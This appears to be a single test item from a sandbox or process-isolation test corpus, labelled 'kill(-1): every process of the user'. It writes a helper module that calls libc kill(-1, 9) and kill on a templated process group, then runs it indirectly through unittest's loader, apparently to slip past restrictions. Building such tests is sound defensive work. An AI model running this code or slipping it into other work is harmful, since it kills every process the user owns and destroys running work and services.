# class: signal
# technique: kill(-1): every process of the user
# success: victim_dead
import sys, unittest
source = 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.kill(-1, 9); libc.kill(-@@VPID@@, 9)\n'
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
